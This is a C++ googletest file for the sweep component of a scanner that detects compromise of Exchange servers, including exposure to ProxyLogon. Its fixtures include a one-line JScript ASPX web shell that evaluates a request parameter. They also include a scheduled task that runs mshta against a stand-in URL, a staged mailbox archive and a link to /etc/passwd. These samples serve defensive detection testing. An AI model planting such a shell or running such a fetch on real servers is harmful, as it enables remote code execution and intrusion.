#include "host/sweep_work.h"

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <iterator>
#include <map>
#include <string>

#include <gtest/gtest.h>

#include "files/testing.h"
#include "host/file_examiner.h"
#include "host/testing.h"
#include "windows/testing/hive_writer.h"

namespace postern::host {
namespace {

using files::testing::TemporaryFolder;
using testing::program_of_version;

constexpr std::string_view kInstall = "Program Files/Microsoft/Exchange Server/V15/";
constexpr std::string_view kShell = "<%@ Page Language=\"JScript\" %><% eval(Request[\"q\"]); %>";
constexpr std::string_view kPlain = "<%@ Page Language=\"C#\" %><p>Hello</p>";

// A small server, with a shell, a ghost and a task among ordinary files.
void write_server(const TemporaryFolder& folder, const std::string& top, std::string_view version) {
  const std::string install = top + std::string(kInstall);
  folder.write(install + "bin/ExSetup.exe", program_of_version(version));
  folder.write(install + "FrontEnd/HttpProxy/owa/auth/logon.aspx", kPlain);
  folder.write(install + "FrontEnd/HttpProxy/owa/auth/errorFS.aspx", kShell);
  folder.write(top + "inetpub/wwwroot/web.config", "<configuration/>");
  folder.write(
      top + "Windows/System32/Tasks/Backup",
      "<Task><Actions><Exec><Command>C:\\Scripts\\b.cmd</Command></Exec></Actions></Task>");
  folder.write(
      top + "Windows/System32/Tasks/Update",
      "<Task><Actions><Exec><Command>mshta</Command><Arguments>http://x.example/a</Arguments>"
      "</Exec></Actions></Task>");
  const std::string compiled = top +
                               "Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET "
                               "Files/owa/1a/2b/";
  folder.write(compiled + "logon.aspx.1a2b3c4d.compiled",
               "<preserve virtualPath=\"/owa/auth/logon.aspx\" assembly=\"App_Web_1\"/>");
  folder.write(compiled + "oh.aspx.1a2b3c4d.compiled",
               "<preserve virtualPath=\"/owa/auth/oh.aspx\" assembly=\"App_Web_2\"/>");
}

struct Swept {
  SweepReport report;
  std::map<std::string, std::string> rules;  // By path: the rules, with blanks between.
};

Swept sweep_of(const std::string& path, SweepOptions options = {}) {
  const FileExaminers examiners(nullptr);
  options.examiners = {&examiners};
  auto report = sweep(path, options);
  EXPECT_TRUE(report.has_value()) << (report ? "" : report.error().text);
  Swept out;
  if (!report) return out;
  out.report = *std::move(report);
  const auto add = [&](const std::vector<exchange::Finding>& findings) {
    for (const exchange::Finding& finding : findings) {
      if (finding.rule == "K-05" || finding.rule == "K-06") continue;
      std::string& rules = out.rules[finding.place.path];
      rules += (rules.empty() ? "" : " ") + finding.rule;
    }
  };
  for (const SweptServer& server : out.report.servers) add(server.findings);
  add(out.report.findings);
  return out;
}

TEST(Sweep, FindsAServerItsVersionAndWhatIsWrongWithIt) {
  const TemporaryFolder folder;
  write_server(folder, "", "15.1.2176.2");
  const Swept swept = sweep_of(folder.path());
  ASSERT_EQ(swept.report.servers.size(), 1U);
  const SweptServer& server = swept.report.servers[0];
  EXPECT_EQ(server.layout.install + "/", kInstall);
  ASSERT_TRUE(server.patch.has_value());
  EXPECT_EQ(server.patch->text,
            "Exchange 2016 CU19 without updates (15.1.2176.2, by the version of bin/ExSetup.exe)");
  EXPECT_EQ(
      swept.rules,
      (std::map<std::string, std::string>{
          {std::string(kInstall) + "FrontEnd/HttpProxy/owa/auth/errorFS.aspx", "F-02 F-06 F-03"},
          {"Windows/System32/Tasks/Update", "F-13"},
          {"Windows/Microsoft.NET/Framework64/v4.0.30319/Temporary ASP.NET Files/owa/1a/2b/"
           "oh.aspx.1a2b3c4d.compiled",
           "F-04"}}));
  EXPECT_TRUE(swept.report.not_examined.empty());
  const bool exposed = std::ranges::any_of(server.findings, [](const exchange::Finding& finding) {
    return finding.rule == "K-05" && finding.cve.front() == "CVE-2021-26855";
  });
  EXPECT_TRUE(exposed);
  EXPECT_GE(server.findings.front().tier, exchange::Tier::exploited);
}

TEST(Sweep, SeveralServersStandBesideEachOtherInAnyCaseAndOnAnyDrive) {
  const TemporaryFolder folder;
  write_server(folder, "mail1/C/", "15.1.2176.2");
  folder.write("MAIL2/C/WINDOWS/win.ini", "");
  folder.write("MAIL2/D/EXCH/V15/BIN/EXSETUP.EXE", program_of_version("15.2.792.10"));
  folder.write("MAIL2/D/EXCH/V15/FRONTEND/HTTPPROXY/OWA/AUTH/ZQ.ASPX", kPlain);
  const Swept swept = sweep_of(folder.path());
  ASSERT_EQ(swept.report.servers.size(), 2U);
  std::map<std::string, std::string> versions;
  for (const SweptServer& server : swept.report.servers) {
    versions[server.layout.top] = exchange::to_string(server.layout.patch->version);
  }
  EXPECT_EQ(versions, (std::map<std::string, std::string>{{"MAIL2", "15.2.792.10"},
                                                          {"mail1", "15.1.2176.2"}}));
  EXPECT_EQ(swept.rules.at("MAIL2/D/EXCH/V15/FRONTEND/HTTPPROXY/OWA/AUTH/ZQ.ASPX"), "F-02");
  EXPECT_TRUE(swept.report.findings.empty());
}

TEST(Sweep, ThreadsDoNotChangeWhatIsFound) {
  const TemporaryFolder folder;
  write_server(folder, "", "15.1.2176.2");
  for (int i = 0; i < 300; ++i) {
    folder.write("inetpub/wwwroot/aspnet_client/" + std::to_string(i) + ".aspx", kPlain);
  }
  const auto order = [&](unsigned threads) {
    SweepOptions options;
    options.threads = threads;
    std::string out;
    const Swept swept = sweep_of(folder.path(), options);
    for (const exchange::Finding& finding : swept.report.servers.at(0).findings) {
      out += finding.rule + " " + finding.place.path + "\n";
    }
    return out;
  };
  const std::string one = order(1);
  EXPECT_GT(std::ranges::count(one, '\n'), 300);
  EXPECT_EQ(order(4), one);
}

TEST(Sweep, AFolderOfAServerIsJudgedByItsName) {
  const TemporaryFolder folder;
  folder.write("x/aspnet_client/a.aspx", kPlain);
  folder.write("x/wwwroot/aspnet_client/a.aspx", kPlain);
  EXPECT_EQ(sweep_of(folder / "x/wwwroot").rules.at("aspnet_client/a.aspx"), "F-01");
  EXPECT_EQ(sweep_of(folder / "x/wwwroot/aspnet_client/a.aspx").rules.at("a.aspx"), "F-01");
}

TEST(Sweep, LooksIntoACollectionAndAtStagedArchives) {
  const TemporaryFolder folder;
  const auto text = [](const Octets& octets) { return std::string(text_of(octets)); };
  const Octets inner =
      testing::packed("zip", {{"inetpub/wwwroot/aspnet_client/b.aspx", std::string(kShell)}});
  folder.write(
      "collected.zip",
      text(testing::packed("zip", {{"C/inetpub/wwwroot/aspnet_client/a.aspx", std::string(kShell)},
                                   {"more.zip", text(inner)}})));
  folder.write("C/ProgramData/readme.txt", text(testing::packed("7zip", {{"boss.pst", "x"}})));
  folder.write("C/ProgramData/a.zip", text(testing::packed("zip", {{"a.txt", "x"}})));
  const Swept swept = sweep_of(folder.path());
  EXPECT_EQ(swept.rules,
            (std::map<std::string, std::string>{
                {"collected.zip!/C/inetpub/wwwroot/aspnet_client/a.aspx", "F-06 F-01"},
                {"collected.zip!/more.zip!/inetpub/wwwroot/aspnet_client/b.aspx", "F-06 F-01"},
                {"C/ProgramData/readme.txt", "F-11"}}));
}

TEST(Sweep, WhatCannotBeReadIsNamed) {
  const TemporaryFolder folder;
  folder.write("Windows/System32/Tasks/torn", "no task");
  folder.write("C/collected.zip", "PK\x03\x04 torn");
  folder.make_folder("inetpub/wwwroot");
  folder.link("/etc/passwd", "inetpub/wwwroot/aspnet_client");
  const Swept swept = sweep_of(folder.path());
  std::vector<std::string> named;
  for (const auto& item : swept.report.not_examined.named()) named.push_back(item.path);
  EXPECT_NE(std::ranges::find(named, "Windows/System32/Tasks/torn"), named.end());
  EXPECT_NE(std::ranges::find(named, "C/collected.zip"), named.end());
}

TEST(Sweep, AnUnchangedTreeIsNotReadAgain) {
  const TemporaryFolder folder;
  const TemporaryFolder elsewhere;
  write_server(folder, "", "15.1.2176.2");
  const auto once = [&](std::string_view rules) {
    auto state = SweepState::open(elsewhere / "sweep.sqlite", rules);
    EXPECT_TRUE(state.has_value());
    SweepOptions options;
    options.state = &*state;
    Swept swept = sweep_of(folder.path(), options);
    EXPECT_FALSE(swept.report.state_fault.has_value());
    const std::vector<std::string> roots = {swept.report.state_root};
    EXPECT_TRUE(state->complete(roots, {}).has_value());
    return swept;
  };
  const Swept first = once("rules");
  EXPECT_EQ(first.report.counts.kept, 0U);
  const Swept second = once("rules");
  EXPECT_EQ(second.report.counts.examined, 0U);
  EXPECT_EQ(second.report.counts.octets_read, 0U);
  EXPECT_EQ(second.rules, first.rules);
  EXPECT_EQ(second.report.servers.at(0).findings, first.report.servers.at(0).findings);
  // One more, one changed, one gone.
  folder.write("inetpub/wwwroot/aspnet_client/new.aspx", kPlain);
  folder.write("Windows/System32/Tasks/Update", "<Task/>");
  std::filesystem::remove(folder /
                          (std::string(kInstall) + "FrontEnd/HttpProxy/owa/auth/errorFS.aspx"));
  const Swept third = once("rules");
  EXPECT_EQ(third.report.counts.examined, 2U);
  EXPECT_EQ(third.rules.size(), 2U);
  EXPECT_TRUE(third.rules.contains("inetpub/wwwroot/aspnet_client/new.aspx"));
  // Other rules: nothing counts.
  EXPECT_EQ(once("other rules").report.counts.kept, 0U);
  // Another build: all is judged anew.
  folder.write(std::string(kInstall) + "bin/ExSetup.exe", program_of_version("15.1.2176.9"));
  EXPECT_EQ(once("other rules").report.counts.kept, 0U);
}

// A server that somebody packed whole is one: its version, its deleted pages, its workarounds.
TEST(Sweep, AServerInAnArchiveIsAServer) {
  const TemporaryFolder folder;
  const TemporaryFolder elsewhere;
  const TemporaryFolder tree;
  write_server(tree, "", "15.1.2176.2");
  std::vector<testing::Packed> files;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(tree.path())) {
    if (!entry.is_regular_file()) continue;
    std::ifstream file(entry.path(), std::ios::binary);
    files.emplace_back(std::filesystem::relative(entry.path(), tree.path()).string(),
                       std::string(std::istreambuf_iterator<char>(file), {}));
  }
  const Octets zip = testing::packed("zip", files);
  folder.write("ex01.zip", text_of(zip));
  const auto once = [&](const std::string& path) {
    auto state = SweepState::open(elsewhere / "sweep.sqlite", "rules");
    SweepOptions options;
    options.state = &*state;
    return sweep_of(path, options);
  };
  const Swept direct = sweep_of(tree.path());
  for (const std::string& path : {folder.path(), folder / "ex01.zip", folder.path()}) {
    SCOPED_TRACE(path);
    const Swept swept = once(path);
    ASSERT_EQ(swept.report.servers.size(), 1U);
    ASSERT_TRUE(swept.report.servers[0].patch.has_value());
    EXPECT_EQ(swept.report.servers[0].patch->text, direct.report.servers.at(0).patch->text);
    std::map<std::string, std::string> expected;
    for (const auto& [file, rules] : direct.rules) expected["ex01.zip!/" + file] = rules;
    EXPECT_EQ(swept.rules, expected);
  }
  EXPECT_EQ(once(folder.path()).report.counts.octets_read, 0U);
  // Two of them are two servers, and so they are in one archive.
  folder.write("ex02.zip",
               text_of(testing::packed(
                   "zip", {{"V15/bin/ExSetup.exe", program_of_version("15.2.792.10")},
                           {"inetpub/wwwroot/aspnet_client/z.aspx", std::string(kShell)}})));
  const Swept both = once(folder.path());
  ASSERT_EQ(both.report.servers.size(), 2U);
  EXPECT_TRUE(both.report.findings.empty());
  std::vector<testing::Packed> nested;
  for (const auto& [name, text] : files) nested.emplace_back("EX01/" + name, text);
  nested.emplace_back("EX02/V15/bin/ExSetup.exe", program_of_version("15.2.792.10"));
  nested.emplace_back("EX02/inetpub/wwwroot/aspnet_client/z.aspx", std::string(kShell));
  const TemporaryFolder one;
  one.write("all.zip", text_of(testing::packed("zip", nested)));
  const Swept all = sweep_of(one.path());
  ASSERT_EQ(all.report.servers.size(), 2U);
  EXPECT_TRUE(all.report.findings.empty());
  for (const SweptServer& server : all.report.servers) EXPECT_FALSE(server.findings.empty());
}

TEST(Sweep, AStateThatCannotBeWrittenEndsNoSweep) {
  const TemporaryFolder folder;
  const TemporaryFolder elsewhere;
  write_server(folder, "", "15.1.2176.2");
  auto state = SweepState::open(elsewhere / "sweep.sqlite", "rules");
  ASSERT_TRUE(state.has_value());
  {
    // Somebody else's hands in the file: every statement of ours fails from now on.
    auto other =
        sqlite::Database::open(elsewhere / "sweep.sqlite", sqlite::Database::Access::read_write);
    ASSERT_TRUE(other->execute("DROP TABLE files").has_value());
  }
  SweepOptions options;
  options.state = &*state;
  const Swept swept = sweep_of(folder.path(), options);
  EXPECT_TRUE(swept.report.state_fault.has_value());
  EXPECT_EQ(swept.rules, sweep_of(folder.path()).rules);
}

TEST(Sweep, MayBeStopped) {
  const TemporaryFolder folder;
  for (int i = 0; i < 300; ++i) folder.write("wwwroot/" + std::to_string(i) + ".aspx", kPlain);
  SweepOptions options;
  int asked = 0;
  options.stop = [&] { return ++asked > 10; };
  const Swept swept = sweep_of(folder.path(), options);
  EXPECT_TRUE(swept.report.stopped);
  EXPECT_LT(swept.report.counts.examined, 300U);
}

TEST(Sweep, APathThatIsNotThereIsAnError) {
  const TemporaryFolder folder;
  EXPECT_FALSE(sweep(folder / "none", {}).has_value());
}

TEST(Sweep, AProgramWithoutAVersionIsNamed) {
  const TemporaryFolder folder;
  folder.write(std::string(kInstall) + "bin/ExSetup.exe", "MZ");
  const Swept swept = sweep_of(folder.path());
  ASSERT_EQ(swept.report.servers.size(), 1U);
  EXPECT_FALSE(swept.report.servers[0].layout.patch.has_value());
  ASSERT_FALSE(swept.report.servers[0].layout.notes.empty());
  EXPECT_TRUE(swept.report.servers[0].layout.notes[0].ends_with("no version is in it"));
}

std::string hive_of_2010(bool unified_messaging) {
  using windows::testing::TestKey;
  TestKey setup{.name = "Setup"};
  setup.values = {windows::testing::text_value("MsiInstallPath", "C:\\Exchange\\")};
  TestKey version{.name = "v14", .keys = {setup}};
  if (unified_messaging) version.keys.push_back({.name = "UnifiedMessagingRole"});
  const TestKey exchange{.name = "ExchangeServer", .keys = {version}};
  const TestKey microsoft{.name = "Microsoft", .keys = {exchange}};
  return std::string(text_of(windows::testing::write_hive({.name = "ROOT", .keys = {microsoft}})));
}

exchange::CveState state_of(const Swept& swept, std::string_view cve) {
  const auto& patch = swept.report.servers.at(0).patch;
  EXPECT_TRUE(patch.has_value());
  const auto found = std::ranges::find(patch->cves, cve, &exchange::CvePatch::cve);
  EXPECT_NE(found, patch->cves.end());
  return found == patch->cves.end() ? exchange::CveState::unknown : found->state;
}

TEST(Sweep, UnifiedMessagingIsAHoleWhereItsRoleIs) {
  for (const int role : {0, 1, 2}) {
    SCOPED_TRACE(role);
    const TemporaryFolder folder;
    folder.write("Exchange/bin/ExSetup.exe", program_of_version("14.3.509.0"));
    if (role > 0) folder.write("Windows/System32/config/SOFTWARE", hive_of_2010(role == 2));
    EXPECT_EQ(state_of(sweep_of(folder.path()), "CVE-2021-26857"),
              role == 1 ? exchange::CveState::not_affected : exchange::CveState::exposed);
  }
}

TEST(Sweep, TracesOfTheHybridWizardAreSeen) {
  for (const std::string_view trace :
       {"", "Users/admin/AppData/Roaming/Microsoft/Exchange Hybrid Configuration/20250101.log",
        "ProgramData/Microsoft Hybrid Service/Logging/a.log"}) {
    SCOPED_TRACE(trace);
    const TemporaryFolder folder;
    folder.write(std::string(kInstall) + "bin/ExSetup.exe", program_of_version("15.2.1544.4"));
    if (!trace.empty()) folder.write(std::string(trace), "x");
    const Swept swept = sweep_of(folder.path());
    const auto& findings = swept.report.servers.at(0).findings;
    const auto found = std::ranges::find(findings, "K-06", &exchange::Finding::rule);
    ASSERT_NE(found, findings.end());
    EXPECT_EQ(found->confidence, trace.empty() ? 70 : 90);
  }
}

TEST(FileVersion, IsReadFromAProgramsResources) {
  const std::string program = program_of_version("15.1.2176.9");
  EXPECT_EQ(file_version(octets_of(program)), exchange::version_of("15.1.2176.9")->version);
  for (std::size_t cut = 0; cut < program.size() / 2; ++cut) {
    EXPECT_FALSE(file_version(octets_of(program).first(cut)) ==
                 exchange::version_of("0.0.0.0")->version);
  }
  EXPECT_EQ(file_version(octets_of("MZ")), std::nullopt);
}

}  // namespace
}  // namespace postern::host
